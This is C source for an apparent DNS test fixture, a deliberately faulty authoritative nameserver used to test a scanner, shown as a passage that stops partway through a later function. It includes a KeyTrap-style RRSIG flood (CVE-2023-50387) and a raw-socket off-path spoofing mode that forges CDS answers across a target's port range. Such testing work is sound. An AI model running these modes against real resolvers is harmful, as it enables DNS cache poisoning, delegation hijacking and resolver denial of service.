/*
 * badns: a misbehaving authoritative nameserver, the test fixture for
 * what real servers never do. It serves signed zone files (the test
 * world's) over UDP and TCP on one address and port, and a rule per zone
 * and query type says how to misbehave: stay silent, answer from another
 * port or address, with the wrong ID or question, set TC=1 and then hold
 * or dribble the TCP connection, claim a 64 KiB answer and stall, send
 * garbage or cut wire data, refer, refuse, fail, put a CNAME or DNAME at
 * the apex, attach real RRSIGs to the wrong owner or type, serve an RRset
 * of thousands of records or RRSIGs, or answer after the client's
 * timeout. It logs one line per query saying what it did, so a test can
 * show that the fault it meant was the fault the scanner met.
 *
 * usage:
 *   badns -a ADDR [-p PORT] [-l LOG] [-A ADDR2] [-r RULE]... ZONEFILE...
 *   badns -d QNAME [-T QTYPE] [-r RULE]... ZONEFILE...  (an answer to stdout)
 *   badns -F -s SRC[@PORT] -t DST [-P LO-HI] [-c SWEEPS] [-D SECS] -q QNAME
 *            [-T QTYPE]
 *
 * RULE is ZONE/TYPE=ACTION[,N][;tcp=ACTION[,N]] (ZONE or TYPE may be *;
 * the first rule that matches wins; no rule: answer correctly). Without a
 * tcp= part the action applies over TCP as well, except tc. Actions:
 *   ok drop wrongid wrongq otherport otheraddr tc garbage truncwire
 *   hugecount bigclaim referral refused servfail cname dname sigowner
 *   sigtype many,N manysigs,N late,MS dead dribble,MS next,N
 * next,N answers the first N matching queries from the zone file given
 * first and every later one from the next file of the same origin: a
 * zone that changes between two queries (RFC 7477 §3.1: the SOA serial
 * moving while CSYNC is processed), deterministically.
 * otheraddr sends from -A ADDR2 (same port). -d builds the answer the
 * rules would give to a UDP query with a 4096-octet buffer (QTYPE ANY:
 * every record at QNAME) and writes its wire form, for seed corpora.
 *
 * -F floods forged answers from SRC (default port 53, raw socket, needs
 * root) to every port LO-HI (default 32768-60999) of DST, SWEEPS times
 * (or until SECS have passed, whichever comes first), each with a random ID, for QNAME/QTYPE (default CDS), carrying a CDS
 * record no key signed: an off-path spoofing attempt. Prints "sent N".
 *
 * Prints "ready" on stdout once listening; SIGTERM ends it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <event2/event.h>
#include <ldns/ldns.h>

#define MAX_RULES 64
#define MAX_ZONES 64

enum act {
	A_OK, A_DROP, A_WRONGID, A_WRONGQ, A_OTHERPORT, A_OTHERADDR, A_TC,
	A_GARBAGE, A_TRUNCWIRE, A_HUGECOUNT, A_BIGCLAIM, A_REFERRAL,
	A_REFUSED, A_SERVFAIL, A_CNAME, A_DNAME, A_SIGOWNER, A_SIGTYPE,
	A_MANY, A_MANYSIGS, A_LATE, A_DEAD, A_DRIBBLE, A_NEXT, A__COUNT
};

static const char *const act_names[A__COUNT] = {
	"ok", "drop", "wrongid", "wrongq", "otherport", "otheraddr", "tc",
	"garbage", "truncwire", "hugecount", "bigclaim", "referral",
	"refused", "servfail", "cname", "dname", "sigowner", "sigtype",
	"many", "manysigs", "late", "dead", "dribble", "next",
};

struct step {
	enum act act;
	unsigned n;
};

struct rule {
	ldns_rdf *zone; /* NULL: any */
	uint16_t type;  /* 0: any */
	struct step udp, tcp;
	char text[200];
};

static struct {
	struct rule rules[MAX_RULES];
	size_t n_rules;
	ldns_rr_list *zones[MAX_ZONES];
	ldns_rdf *origins[MAX_ZONES];
	size_t n_zones;
	unsigned next_seen[MAX_ZONES]; /* queries under next,N per zone */
	FILE *log;
	struct event_base *base;
	int udp_fd, other_port_fd, other_addr_fd;
	struct sockaddr_storage addr;
	socklen_t alen;
} S = {.udp_fd = -1, .other_port_fd = -1, .other_addr_fd = -1};

static void __attribute__((noreturn, format(printf, 1, 2)))
die(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fprintf(stderr, "badns: ");
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
	exit(1);
}

/* One line per query: what was asked and what badns did about it. */
static void logq(const char *proto, const ldns_pkt *q, const char *what)
{
	const ldns_rr_list *qs = q ? ldns_pkt_question(q) : NULL;
	char *name = NULL, *type = NULL;

	if (qs && ldns_rr_list_rr_count(qs) == 1) {
		name = ldns_rdf2str(ldns_rr_owner(ldns_rr_list_rr(qs, 0)));
		type = ldns_rr_type2str(
			ldns_rr_get_type(ldns_rr_list_rr(qs, 0)));
	}
	fprintf(S.log, "badns: %s %s %s -> %s\n", proto, name ? name : "?",
		type ? type : "?", what);
	fflush(S.log);
	free(name);
	free(type);
}

/* ---- rules ---- */

static int parse_step(const char *s, struct step *st)
{
	char word[32];
	const char *comma = strchr(s, ',');
	size_t len = comma ? (size_t)(comma - s) : strlen(s);

	if (len >= sizeof word)
		return -1;
	memcpy(word, s, len);
	word[len] = '\0';
	for (int i = 0; i < A__COUNT; i++) {
		if (strcmp(word, act_names[i]) == 0) {
			st->act = (enum act)i;
			st->n = comma ? (unsigned)strtoul(comma + 1, NULL, 10)
				      : 0;
			return 0;
		}
	}
	return -1;
}

static void parse_rule(const char *text)
{
	struct rule *r;
	char buf[200], *slash, *eq, *semi;

	if (S.n_rules == MAX_RULES)
		die("too many rules");
	r = &S.rules[S.n_rules++];
	snprintf(r->text, sizeof r->text, "%s", text);
	snprintf(buf, sizeof buf, "%s", text);
	if (!(slash = strchr(buf, '/')) || !(eq = strchr(slash, '=')))
		die("rule '%s': expected ZONE/TYPE=ACTION", text);
	*slash = *eq = '\0';
	if (strcmp(buf, "*") != 0 &&
	    ldns_str2rdf_dname(&r->zone, buf) != LDNS_STATUS_OK)
		die("rule '%s': bad zone", text);
	if (r->zone)
		ldns_dname2canonical(r->zone);
	if (strcmp(slash + 1, "*") != 0 &&
	    !(r->type = ldns_get_rr_type_by_name(slash + 1)))
		die("rule '%s': bad type", text);
	if ((semi = strchr(eq + 1, ';')))
		*semi = '\0';
	if (parse_step(eq + 1, &r->udp) < 0)
		die("rule '%s': unknown action", text);
	r->tcp = r->udp;
	if (r->udp.act == A_TC)
		r->tcp.act = A_OK;
	if (semi && (strncmp(semi + 1, "tcp=", 4) != 0 ||
		     parse_step(semi + 5, &r->tcp) < 0))
		die("rule '%s': bad tcp= part", text);
}

static const struct step *match(const ldns_pkt *q, bool tcp)
{
	static const struct step ok = {A_OK, 0};
	const ldns_rr *qr = ldns_rr_list_rr(ldns_pkt_question(q), 0);

	for (size_t i = 0; i < S.n_rules; i++) {
		const struct rule *r = &S.rules[i];

		if (r->type && r->type != ldns_rr_get_type(qr))
			continue;
		if (r->zone && ldns_dname_compare(r->zone, ldns_rr_owner(qr)) &&
		    !ldns_dname_is_subdomain(ldns_rr_owner(qr), r->zone))
			continue;
		return tcp ? &r->tcp : &r->udp;
	}
	return &ok;
}

/* ---- zones and answers ---- */

static void load_zone(const char *path)
{
	FILE *fp = fopen(path, "r");
	ldns_zone *z = NULL;
	ldns_status st;
	int line = 0;

	if (!fp)
		die("%s: %s", path, strerror(errno));
	if (S.n_zones == MAX_ZONES)
		die("too many zones");
	st = ldns_zone_new_frm_fp_l(&z, fp, NULL, 60, LDNS_RR_CLASS_IN, &line);
	fclose(fp);
	if (st != LDNS_STATUS_OK)
		die("%s:%d: %s", path, line, ldns_get_errorstr_by_id(st));
	S.origins[S.n_zones] = ldns_rdf_clone(ldns_rr_owner(ldns_zone_soa(z)));
	ldns_dname2canonical(S.origins[S.n_zones]);
	S.zones[S.n_zones] = ldns_rr_list_clone(ldns_zone_rrs(z));
	ldns_rr_list_push_rr(S.zones[S.n_zones], ldns_rr_clone(ldns_zone_soa(z)));
	S.n_zones++;
	ldns_zone_deep_free(z);
}

static ssize_t zone_of(const ldns_rdf *name)
{
	ssize_t best = -1;

	for (size_t i = 0; i < S.n_zones; i++) {
		if ((ldns_dname_compare(S.origins[i], name) == 0 ||
		     ldns_dname_is_subdomain(name, S.origins[i])) &&
		    (best < 0 || ldns_dname_label_count(S.origins[i]) >
				      ldns_dname_label_count(S.origins[best])))
			best = (ssize_t)i;
	}
	return best;
}

static uint16_t covered(const ldns_rr *sig)
{
	return ldns_rdf2native_int16(ldns_rr_rrsig_typecovered(sig));
}

/* Records of `type` at `owner` (type 0: all) and their RRSIGs, cloned. */
static void collect(size_t zi, const ldns_rdf *owner, uint16_t type,
		    ldns_rr_list *out)
{
	const ldns_rr_list *rrs = S.zones[zi];

	for (size_t i = 0; i < ldns_rr_list_rr_count(rrs); i++) {
		ldns_rr *rr = ldns_rr_list_rr(rrs, i);
		uint16_t t = ldns_rr_get_type(rr);

		if (ldns_dname_compare(ldns_rr_owner(rr), owner) != 0)
			continue;
		if (type && t != type &&
		    !(t == LDNS_RR_TYPE_RRSIG && covered(rr) == type))
			continue;
		ldns_rr_list_push_rr(out, ldns_rr_clone(rr));
	}
}

static ldns_rr *rr_new(const char *fmt, ...)
{
	char text[1024];
	ldns_rr *rr = NULL;
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(text, sizeof text, fmt, ap);
	va_end(ap);
	if (ldns_rr_new_frm_str(&rr, text, 60, NULL, NULL) != LDNS_STATUS_OK)
		die("cannot build record '%s'", text);
	return rr;
}

/* The RRSIGs of the answer replaced by ones that do not belong there:
   real signatures of the zone with a wrong owner, or the apex DNSKEY
   RRset's signatures relabelled as covering the asked type. */
static void bend_sigs(ldns_pkt *a, size_t zi, const ldns_rdf *qname,
		      uint16_t qtype, enum act act)
{
	ldns_rr_list *ans = ldns_pkt_answer(a), *keep = ldns_rr_list_new();
	ldns_rr_list *dk = ldns_rr_list_new();

	for (size_t i = 0; i < ldns_rr_list_rr_count(ans); i++) {
		ldns_rr *rr = ldns_rr_list_rr(ans, i);

		if (ldns_rr_get_type(rr) != LDNS_RR_TYPE_RRSIG) {
			ldns_rr_list_push_rr(keep, rr);
			continue;
		}
		if (act == A_SIGOWNER) {
			ldns_rdf *o = ldns_dname_new_frm_str("wrong-owner");

			ldns_dname_cat(o, ldns_rr_owner(rr));
			ldns_rdf_deep_free(ldns_rr_owner(rr));
			ldns_rr_set_owner(rr, o);
			ldns_rr_list_push_rr(keep, rr);
		} else {
			ldns_rr_free(rr);
		}
	}
	if (act == A_SIGTYPE) {
		/* the DNSKEY RRset's signatures (for DNSKEY itself, SOA's) */
		collect(zi, S.origins[zi], qtype == LDNS_RR_TYPE_DNSKEY
						   ? LDNS_RR_TYPE_SOA
						   : LDNS_RR_TYPE_DNSKEY, dk);
		for (size_t i = 0; i < ldns_rr_list_rr_count(dk); i++) {
			ldns_rr *rr = ldns_rr_list_rr(dk, i);

			if (ldns_rr_get_type(rr) != LDNS_RR_TYPE_RRSIG) {
				ldns_rr_free(rr);
				continue;
			}
			ldns_rdf_deep_free(ldns_rr_set_rdf(
				rr, ldns_native2rdf_int16(LDNS_RDF_TYPE_TYPE,
							  qtype), 0));
			ldns_rdf_deep_free(ldns_rr_owner(rr));
			ldns_rr_set_owner(rr, ldns_rdf_clone(qname));
			ldns_rr_list_push_rr(keep, rr);
		}
	}
	ldns_rr_list_free(dk);
	ldns_rr_list_free(ans);
	ldns_pkt_set_answer(a, keep);
	ldns_pkt_set_ancount(a, (uint16_t)ldns_rr_list_rr_count(keep));
}

/* N records of the asked type (CDS-shaped for CDS/DS, else CDNSKEY-
   shaped keys that no one signed): a huge RRset. Or, for manysigs, N
   copies of the real RRSIGs ahead of them, each with the right key tag
   and a broken signature, so that each one would cost a verification
   (KeyTrap, CVE-2023-50387): the valid signature comes last. */
static void stuff(ldns_pkt *a, const ldns_rdf *qname, uint16_t qtype,
		  enum act act, unsigned n)
{
	char *owner = ldns_rdf2str(qname);
	ldns_rr_list *ans = ldns_pkt_answer(a), *out = ldns_rr_list_new();
	ldns_rr_list *sigs = ldns_rr_list_new();

	for (size_t i = 0; i < ldns_rr_list_rr_count(ans); i++) {
		ldns_rr *rr = ldns_rr_list_rr(ans, i);

		ldns_rr_list_push_rr(ldns_rr_get_type(rr) == LDNS_RR_TYPE_RRSIG
					     ? sigs : out, rr);
	}
	for (unsigned i = 0; i < n; i++) {
		ldns_rr *rr;

		if (act == A_MANYSIGS) {
			ldns_rdf *sig;

			if (!ldns_rr_list_rr_count(sigs))
				break;
			rr = ldns_rr_clone(ldns_rr_list_rr(
				sigs, i % ldns_rr_list_rr_count(sigs)));
			sig = ldns_rr_rdf(rr, 8);
			/* random, so that no two answers are alike and a
			   verification cache cannot help */
			ldns_rdf_data(sig)[ldns_rdf_size(sig) - 1 - i % 8] ^=
				(uint8_t)(1 + random() % 255);
		} else if (qtype == LDNS_RR_TYPE_CDS ||
			   qtype == LDNS_RR_TYPE_DS) {
			rr = rr_new("%s IN %s %u 13 2 %064x", owner,
				    qtype == LDNS_RR_TYPE_DS ? "DS" : "CDS",
				    i & 0xffff, i);
		} else {
			rr = rr_new("%s IN %s 257 3 13 %08xAAAAAAAAAAAAAAAAAAAA"
				    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
				    "AAAAAAAAAAAAAAAAAAAAAA==", owner,
				    qtype == LDNS_RR_TYPE_DNSKEY ? "DNSKEY"
								: "CDNSKEY", i);
		}
		ldns_rr_list_push_rr(out, rr);
	}
	for (size_t i = 0; i < ldns_rr_list_rr_count(sigs); i++)
		ldns_rr_list_push_rr(out, ldns_rr_list_rr(sigs, i));
	ldns_rr_list_free(sigs);
	ldns_rr_list_free(ans);
	ldns_pkt_set_answer(a, out);
	ldns_pkt_set_ancount(a, (uint16_t)ldns_rr_list_rr_count(out));
	free(owner);
}

/*
 * The answer to `q` under step `st`, as wire data in *wire (malloc'd).
 * Returns the length, 0 for no answer at all.
 */
static size_t answer(const ldns_pkt *q, const struct step *st, size_t limit,
		     uint8_t **wire)
{
	const ldns_rr *qr = ldns_rr_list_rr(ldns_pkt_question(q), 0);
	const ldns_rdf *qname = ldns_rr_owner(qr);
	uint16_t qtype = ldns_rr_get_type(qr);
	ldns_pkt *a = ldns_pkt_new();
	ldns_rdf *lname = ldns_rdf_clone(qname);
	ssize_t zi;
	size_t len = 0;
	char *zname = NULL;

	ldns_dname2canonical(lname);
	zi = zone_of(lname);
	if (zi >= 0 && st->act == A_NEXT && S.next_seen[zi]++ >= st->n) {
		/* the next copy of the same zone, if there is one */
		for (size_t k = (size_t)zi + 1; k < S.n_zones; k++)
			if (ldns_dname_compare(S.origins[k],
					       S.origins[zi]) == 0) {
				zi = (ssize_t)k;
				break;
			}
	}
	ldns_pkt_set_id(a, ldns_pkt_id(q));
	ldns_pkt_set_qr(a, true);
	ldns_pkt_set_opcode(a, LDNS_PACKET_QUERY);
	/* ldns_pkt_new() gave it an empty list: replaced, not dropped */
	ldns_rr_list_free(ldns_pkt_question(a));
	ldns_pkt_set_question(a, ldns_rr_list_clone(ldns_pkt_question(q)));
	ldns_pkt_set_qdcount(a, 1);
	if (ldns_pkt_edns(q)) {
		ldns_pkt_set_edns_udp_size(a, 1232);
		ldns_pkt_set_edns_do(a, ldns_pkt_edns_do(q));
	}
	if (zi < 0) {
		ldns_pkt_set_rcode(a, LDNS_RCODE_REFUSED);
		goto wire;
	}
	zname = ldns_rdf2str(S.origins[zi]);
	ldns_pkt_set_aa(a, true);
	switch (st->act) {
	case A_REFUSED:
		ldns_pkt_set_aa(a, false);
		ldns_pkt_set_rcode(a, LDNS_RCODE_REFUSED);
		goto wire;
	case A_SERVFAIL:
		ldns_pkt_set_aa(a, false);
		ldns_pkt_set_rcode(a, LDNS_RCODE_SERVFAIL);
		goto wire;
	case A_REFERRAL:
		/* as a parent would: AA=0, the zone's NS in authority */
		ldns_pkt_set_aa(a, false);
		collect((size_t)zi, S.origins[zi], LDNS_RR_TYPE_NS,
			ldns_pkt_authority(a));
		ldns_pkt_set_nscount(a, (uint16_t)ldns_rr_list_rr_count(
						ldns_pkt_authority(a)));
		goto wire;
	case A_CNAME:
	case A_DNAME:
		/* RFC 2181 §10.1 / RFC 6672: never at an apex with other data */
		ldns_rr_list_push_rr(ldns_pkt_answer(a),
			rr_new("%s IN %s elsewhere.invalid.", zname,
			       st->act == A_CNAME ? "CNAME" : "DNAME"));
		ldns_pkt_set_ancount(a, 1);
		goto wire;
	default:
		break;
	}
	collect((size_t)zi, lname, qtype == LDNS_RR_TYPE_ANY ? 0 : qtype,
		ldns_pkt_answer(a));
	ldns_pkt_set_ancount(a, (uint16_t)ldns_rr_list_rr_count(
					ldns_pkt_answer(a)));
	if (ldns_pkt_ancount(a) == 0)
		collect((size_t)zi, S.origins[zi], LDNS_RR_TYPE_SOA,
			ldns_pkt_authority(a));
	ldns_pkt_set_nscount(a, (uint16_t)ldns_rr_list_rr_count(
					ldns_pkt_authority(a)));
	if (st->act == A_SIGOWNER || st->act == A_SIGTYPE)
		bend_sigs(a, (size_t)zi, lname, qtype, st->act);
	if (st->act == A_MANY || st->act == A_MANYSIGS)
		stuff(a, lname, qtype, st->act, st->n);
	if (st->act == A_WRONGID)
		ldns_pkt_set_id(a, (uint16_t)(ldns_pkt_id(q) + 1));
	if (st->act == A_WRONGQ) {
		ldns_rr *x = ldns_rr_list_rr(ldns_pkt_question(a), 0);
		ldns_rdf *o = ldns_dname_new_frm_str("other");

		ldns_dname_cat(o, ldns_rr_owner(x));
		ldns_rdf_deep_free(ldns_rr_owner(x));
		ldns_rr_set_owner(x, o);
	}
wire:
	if (st->act == A_TC) {
		ldns_rr_list_deep_free(ldns_pkt_answer(a));
		ldns_pkt_set_answer(a, ldns_rr_list_new());
		ldns_rr_list_deep_free(ldns_pkt_authority(a));
		ldns_pkt_set_authority(a, ldns_rr_list_new());
		ldns_pkt_set_ancount(a, 0);
		ldns_pkt_set_nscount(a, 0);
		ldns_pkt_set_tc(a, true);
	}
	if (ldns_pkt2wire(wire, a, &len) != LDNS_STATUS_OK)
		die("cannot render an answer");
	if (len > limit) {
		/* RFC 1035 §4.2.1: what does not fit is truncated, TC=1 */
		len = 12 + (size_t)ldns_rdf_size(qname) + 4;
		(*wire)[2] |= 0x02;
		memset(*wire + 6, 0, 6);
	}
	switch (st->act) {
	case A_GARBAGE:
		for (size_t i = 0; i < len; i++)
			(*wire)[i] = (uint8_t)random();
		break;
	case A_TRUNCWIRE:
		len = len / 2 > 12 ? len / 2 : 13;
		break;
	case A_HUGECOUNT:
		/* the header claims 65535 answers that are not there */
		(*wire)[6] = (*wire)[7] = 0xff;
		break;
	default:
		break;
	}
	ldns_pkt_free(a);
	ldns_rdf_deep_free(lname);
	free(zname);
	return len;
}

/* ---- UDP ---- */

struct later {
	int fd;
	struct sockaddr_storage to;
	socklen_t tolen;
	uint8_t *wire;
	size_t len;
	struct event *ev;
};

static void later_cb(evutil_socket_t fd, short what, void *arg)
{
	struct later *l = arg;

	(void)sendto(l->fd, l->wire, l->len, 0, (struct sockaddr *)&l->to,
		     l->tolen);
	event_free(l->ev);
	free(l->wire);
	free(l);
}

static void udp_cb(evutil_socket_t fd, short what, void *arg)
{
	uint8_t buf[4096], *wire = NULL;
	struct sockaddr_storage from;
	socklen_t flen = sizeof from;
	ssize_t n = recvfrom(fd, buf, sizeof buf, 0, (struct sockaddr *)&from,
			     &flen);
	ldns_pkt *q = NULL;
	const struct step *st;
	char what_did[80];
	size_t len, limit;
	int out = fd;

	if (n <= 0)
		return;
	if (ldns_wire2pkt(&q, buf, (size_t)n) != LDNS_STATUS_OK ||
	    ldns_rr_list_rr_count(ldns_pkt_question(q)) != 1) {
		logq("udp", NULL, "unparseable query, ignored");
		ldns_pkt_free(q);
		return;
	}
	st = match(q, false);
	snprintf(what_did, sizeof what_did, "%s", act_names[st->act]);
	if (st->act == A_DROP || st->act == A_DEAD) {
		logq("udp", q, "drop");
		goto out;
	}
	limit = ldns_pkt_edns(q) ? ldns_pkt_edns_udp_size(q) : 512;
	if (limit < 512)
		limit = 512;
	len = answer(q, st, limit, &wire);
	if (len >= 12 && (wire[2] & 0x02) && st->act != A_TC)
		snprintf(what_did, sizeof what_did, "%s (%zu octets > %zu: "
			 "TC=1)", act_names[st->act], len, limit);
	if (st->act == A_OTHERPORT)
		out = S.other_port_fd;
	if (st->act == A_OTHERADDR)
		out = S.other_addr_fd;
	if (out < 0)
		die("otheraddr needs -A");
	if (st->act == A_LATE) {
		struct later *l = calloc(1, sizeof *l);
		struct timeval tv = {st->n / 1000, (st->n % 1000) * 1000};

		l->fd = out;
		l->to = from;
		l->tolen = flen;
		l->wire = wire;
		l->len = len;
		l->ev = evtimer_new(S.base, later_cb, l);
		evtimer_add(l->ev, &tv);
		wire = NULL;
		snprintf(what_did, sizeof what_did, "late %u ms", st->n);
	} else {
		(void)sendto(out, wire, len, 0, (struct sockaddr *)&from, flen);
	}
	logq("udp", q, what_did);
out:
	free(wire);
	ldns_pkt_free(q);
}

/* ---- TCP ---- */

struct conn {
	int fd;
	uint8_t in[65537];
	size_t have;
	uint8_t *out;
	size_t out_len, out_off;
	unsigned dribble_ms; /* 0: send at once */
	bool stall;          /* after sending, hold the connection open */
	struct event *rev, *wev, *tev;
};

static void conn_free(struct conn *c)
{
	if (c->rev)
		event_free(c->rev);
	if (c->wev)
		event_free(c->wev);
	if (c->tev)
		event_free(c->tev);
	close(c->fd);
	free(c->out);
	free(c);
}

static void conn_send(struct conn *c)
{
	size_t chunk = c->out_len - c->out_off;
	ssize_t n;

	if (c->dribble_ms && chunk > 1)
		chunk = 1;
	n = send(c->fd, c->out + c->out_off, chunk, MSG_NOSIGNAL);
	if (n < 0 && errno != EAGAIN) {
		conn_free(c);
		return;
	}
	if (n > 0)
		c->out_off += (size_t)n;
	if (c->out_off < c->out_len) {
		if (c->dribble_ms) {
			struct timeval tv = {c->dribble_ms / 1000,
					     (c->dribble_ms % 1000) * 1000};
			evtimer_add(c->tev, &tv);
		} else {
			event_add(c->wev, NULL);
		}
		return;
	}
	free(c->out);
	c->out = NULL;
	c->out_len = c->out_off = 0;
	/* a stalled connection stays open until the client gives up */
}

static void conn_write_cb(evutil_socket_t fd, short what, void *arg)
{
	conn_send(arg);
}

static void conn_query(struct conn *c, const uint8_t *msg, size_t n)
{
	ldns_pkt *q = NULL;
	const struct step *st;
	uint8_t *wire = NULL;
	size_t len;
	char what_did[80];

	if (ldns_wire2pkt(&q, msg, n) != LDNS_STATUS_OK ||
	    ldns_rr_list_rr_count(ldns_pkt_question(q)) != 1) {
		logq("tcp", NULL, "unparseable query, ignored");
		ldns_pkt_free(q);
		return;
	}
	st = match(q, true);
	snprintf(what_did, sizeof what_did, "%s", act_names[st->act]);
	if (st->act == A_DROP || st->act == A_DEAD) {
		/* accepted and read, never answered, never closed */
		logq("tcp", q, "dead (holding the connection)");
		ldns_pkt_free(q);
		return;
	}
	len = answer(q, st, 65535, &wire);
	if (c->out) {
		logq("tcp", q, "busy, ignored");
		goto out;
	}
	c->out = malloc(len + 2);
	memcpy(c->out + 2, wire, len);
	c->out_len = len + 2;
	c->out[0] = (uint8_t)(len >> 8);
	c->out[1] = (uint8_t)len;
	if (st->act == A_BIGCLAIM) {
		/* 65535 octets announced, far fewer sent, then silence */
		c->out[0] = c->out[1] = 0xff;
		c->stall = true;
		snprintf(what_did, sizeof what_did, "bigclaim (65535 "
			 "announced, %zu sent)", len);
	}
	if (st->act == A_DRIBBLE) {
		c->dribble_ms = st->n ? st->n : 100;
		snprintf(what_did, sizeof what_did, "dribble 1 octet per "
			 "%u ms", c->dribble_ms);
	}
	if (st->act == A_LATE) {
		struct timeval tv = {st->n / 1000, (st->n % 1000) * 1000};

		evtimer_add(c->tev, &tv);
		snprintf(what_did, sizeof what_did, "late %u ms", st->n);
		logq("tcp", q, what_did);
		goto out;
	}
	logq("tcp", q, what_did);
	conn_send(c);
out:
	free(wire);
	ldns_pkt_free(q);
}

static void conn_read_cb(evutil_socket_t fd, short what, void *arg)
{
	struct conn *c = arg;
	ssize_t n = recv(fd, c->in + c->have, sizeof c->in - c->have, 0);
	size_t need;

	if (n <= 0) {
		if (n < 0 && errno == EAGAIN)
			return;
		conn_free(c);
		return;
	}
	c->have += (size_t)n;
	while (c->have >= 2 &&
	       c->have >= (need = 2 + ((size_t)c->in[0] << 8 | c->in[1]))) {
		conn_query(c, c->in + 2, need - 2);
		memmove(c->in, c->in + need, c->have - need);
		c->have -= need;
	}
}

static void accept_cb(evutil_socket_t fd, short what, void *arg)
{
	int cfd = accept(fd, NULL, NULL);
	struct conn *c;

	if (cfd < 0)
		return;
	evutil_make_socket_nonblocking(cfd);
	c = calloc(1, sizeof *c);
	c->fd = cfd;
	c->rev = event_new(S.base, cfd, EV_READ | EV_PERSIST, conn_read_cb, c);
	c->wev = event_new(S.base, cfd, EV_WRITE, conn_write_cb, c);
	c->tev = evtimer_new(S.base, conn_write_cb, c);
	event_add(c->rev, NULL);
}

/* ---- sockets ---- */

static int sock_at(const char *addr, uint16_t port, int type)
{
	struct sockaddr_storage ss = {0};
	struct sockaddr_in *s4 = (struct sockaddr_in *)&ss;
	struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)&ss;
	socklen_t len;
	int fd, one = 1;

	if (inet_pton(AF_INET, addr, &s4->sin_addr) == 1) {
		s4->sin_family = AF_INET;
		s4->sin_port = htons(port);
		len = sizeof *s4;
	} else if (inet_pton(AF_INET6, addr, &s6->sin6_addr) == 1) {
		s6->sin6_family = AF_INET6;
		s6->sin6_port = htons(port);
		len = sizeof *s6;
	} else {
		die("bad address %s", addr);
	}
	if ((fd = socket(ss.ss_family, type, 0)) < 0)
		die("socket: %s", strerror(errno));
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(fd, (struct sockaddr *)&ss, len) < 0)
		die("bind %s port %u: %s", addr, port, strerror(errno));
	if (type == SOCK_STREAM && listen(fd, 64) < 0)
		die("listen: %s", strerror(errno));
	evutil_make_socket_nonblocking(fd);
	return fd;
}

/* ---- the off-path flood ---- */

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int flood(const char *src, const char *dst, const char *ports,
		 unsigned sweeps, double secs, const char *qname,
		 const char *qtype)
{
	double until = secs > 0 ? now_s() + secs : 0;
	char host[64], zone[300];
	const char *at = strchr(src, '@');
	unsigned sport = 53, lo = 32768, hi = 60999;
	struct in_addr sa, da;
	ldns_pkt *p = NULL;
	uint8_t *dns = NULL, pkt[2048];
	size_t dlen;
	unsigned long sent = 0;
	int fd, one = 1;
	uint16_t type = ldns_get_rr_type_by_name(qtype);

	snprintf(host, sizeof host, "%.*s", at ? (int)(at - src) : 63, src);
	if (at)
		sport = (unsigned)atoi(at + 1);
	if (ports && sscanf(ports, "%u-%u", &lo, &hi) != 2)
		die("bad port range %s", ports);
	if (inet_pton(AF_INET, host, &sa) != 1 ||
	    inet_pton(AF_INET, dst, &da) != 1)
		die("flood: IPv4 addresses only");
	if (!type)
		die("bad type %s", qtype);
	if (ldns_pkt_query_new_frm_str(&p, qname, type, LDNS_RR_CLASS_IN, 0) !=
	    LDNS_STATUS_OK)
		die("bad name %s", qname);
	ldns_pkt_set_qr(p, true);
	ldns_pkt_set_aa(p, true);
	snprintf(zone, sizeof zone, "%s", qname);
	/* what an attacker would want accepted: a DS set of its own key */
	ldns_rr_list_push_rr(ldns_pkt_answer(p),
		rr_new("%s 60 IN CDS 4242 13 2 %064x", zone, 0x4242));
	ldns_pkt_set_ancount(p, 1);
	if (ldns_pkt2wire(&dns, p, &dlen) != LDNS_STATUS_OK)
		die("cannot render the forged answer");
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0)
		die("raw socket (needs root): %s", strerror(errno));
	setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
	for (unsigned s = 0; s < sweeps; s++) {
		if (until && now_s() > until)
			break;
		for (unsigned port = lo; port <= hi; port++) {
			struct iphdr *ip = (struct iphdr *)pkt;
			struct udphdr *u = (struct udphdr *)(pkt + sizeof *ip);
			uint8_t *d = pkt + sizeof *ip + sizeof *u;
			struct sockaddr_in to = {.sin_family = AF_INET,
						 .sin_addr = da};
			size_t tot = sizeof *ip + sizeof *u + dlen;

			memset(pkt, 0, sizeof *ip + sizeof *u);
			memcpy(d, dns, dlen);
			d[0] = (uint8_t)random();
			d[1] = (uint8_t)random();
			ip->ihl = 5;
			ip->version = 4;
			ip->ttl = 64;
			ip->protocol = IPPROTO_UDP;
			ip->saddr = sa.s_addr;
			ip->daddr = da.s_addr;
			ip->tot_len = htons((uint16_t)tot);
			u->source = htons((uint16_t)sport);
			u->dest = htons((uint16_t)port);
			u->len = htons((uint16_t)(sizeof *u + dlen));
			u->check = 0; /* optional over IPv4 (RFC 768) */
			ip->check = htons(csum(ip, sizeof *ip, 0));
			if (sendto(fd, pkt, tot, 0, (struct sockaddr *)&to,
				   sizeof to) > 0)
				sent++;
		}
	}
	printf("sent %lu\n", sent);
	close(fd);
	free(dns);
	ldns_pkt_free(p);
	return 0;
}

/* ---- main ---- */

static void on_term(evutil_socket_t fd, short what, void *arg)
{
	event_base_loopbreak(S.base);
}

static int dump(const char *qname, const char *qtype)
{
	ldns_pkt *q = NULL;
	uint16_t type = strcmp(qtype, "ANY") == 0
				? LDNS_RR_TYPE_ANY
